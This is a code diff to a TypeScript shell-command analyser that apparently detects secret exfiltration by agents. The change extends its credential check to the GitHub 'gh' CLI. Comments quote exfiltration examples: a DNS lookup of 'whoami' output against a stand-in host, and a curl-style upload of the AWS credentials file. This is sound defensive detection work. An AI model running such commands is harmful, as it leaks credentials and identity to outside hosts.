@@ -1275,7 +1275,8 @@ export class BashRun {
 
   private sendsOne(f: CmdFact, kind: SentKind): boolean {
     if (kind === 'computed') return HTTP_CLIENTS.has(f.fam) && httpSent(f).some(computedSent);
-    if (kind === 'credential') return HTTP_CLIENTS.has(f.fam) && this.sendsCredential(f);
+    if (kind === 'credential')
+      return (HTTP_CLIENTS.has(f.fam) || f.fam === 'gh') && this.sendsCredential(f);
     const has = (v: Val) => (kind === 'identity' ? this.hasIdentity(v) : this.hasSecretVar(v));
     // `whoami | xargs -I{} nslookup {}.x.example`: the items stand where the placeholder is
     let viaStdin: boolean | undefined;
@@ -1318,10 +1319,11 @@ export class BashRun {
    * its URL, data, form or header values (also through the commands that print it), or what a
    * command the exfiltration rules take secrets from prints (a credential file, `gh auth token`,
    * the agent's config through jq), in those values, on its stdin or in a file it uploads (the
-   * client reading a credential file itself, `--data-binary @"$HOME/.aws/credentials"`).
+   * client reading a credential file itself, `--data-binary @"$HOME/.aws/credentials"`). gh
+   * sends all its words (a field, a body, a gist's text), authenticating with its own login.
    */
   private sendsCredential(f: CmdFact): boolean {
-    const sent = httpSent(f).map(([v]) => v);
+    const sent = HTTP_CLIENTS.has(f.fam) ? httpSent(f).map(([v]) => v) : f.args;
     if (sent.some((v) => this.hasSecretVar(v))) return true;
     const from = new Set<number>([f.id, ...this.flow.stdin(f)]);
     for (const v of sent) for (const s of this.flow.val(v)) from.add(s);
